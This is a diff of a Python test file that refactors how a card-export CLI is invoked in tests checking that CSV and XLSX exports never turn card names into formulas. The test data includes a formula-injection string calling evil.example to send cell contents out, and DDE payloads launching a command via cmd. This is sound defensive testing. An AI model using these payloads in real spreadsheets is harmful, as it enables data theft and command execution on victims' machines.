@@ -15,14 +15,12 @@ import zipfile
 from pathlib import Path
 
 import pytest
-from typer.testing import CliRunner
+from ..conftest import invoke
 
-from forge.cli import app
 
 ATTACK = '=WEBSERVICE("http://evil.example/?"&C2)'
 NAMES = {"kindle": ATTACK, "ash-runner": "+1+cmd|' /C calc'!A0", "flame-lash": "-dash", "war-drummer": "'=quoted",
          "feed-the-flames": "@SUM(1+1)*cmd|' /C calc'!A0"}
-runner = CliRunner()
 
 
 def renamed(root: Path) -> dict[str, str]:
@@ -43,7 +41,7 @@ def renamed(root: Path) -> dict[str, str]:
 
 def export(root: Path, fmt: str) -> Path:
     out = root / "output" / f"cards.{fmt}"
-    result = runner.invoke(app, ["cards", "export", "--root", str(root), "--format", fmt, "--out", str(out)])
+    result = invoke(["cards", "export", "--root", str(root), "--format", fmt, "--out", str(out)])
     assert result.exit_code == 0, result.output
     return out
 
@@ -71,11 +69,11 @@ def test_xlsx_cells_are_strings_never_formulas(shipped: Path):
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
-def test_the_names_come_back_as_they_were(shipped: Path, fmt: str):
+def test_the_names_come_back_as_they_were(shipped: Path, fmt: str, cli):
     renamed(shipped)
     before = {p.name: p.read_bytes() for p in (shipped / "cards").iterdir()}
     sheet = export(shipped, fmt)
-    result = runner.invoke(app, ["cards", "import", str(sheet), "--root", str(shipped)])
+    result = cli(["cards", "import", str(sheet), "--root", str(shipped)])
     assert result.exit_code == 0 and "0 changed" in result.output, result.output
     assert {p.name: p.read_bytes() for p in (shipped / "cards").iterdir()} == before
 
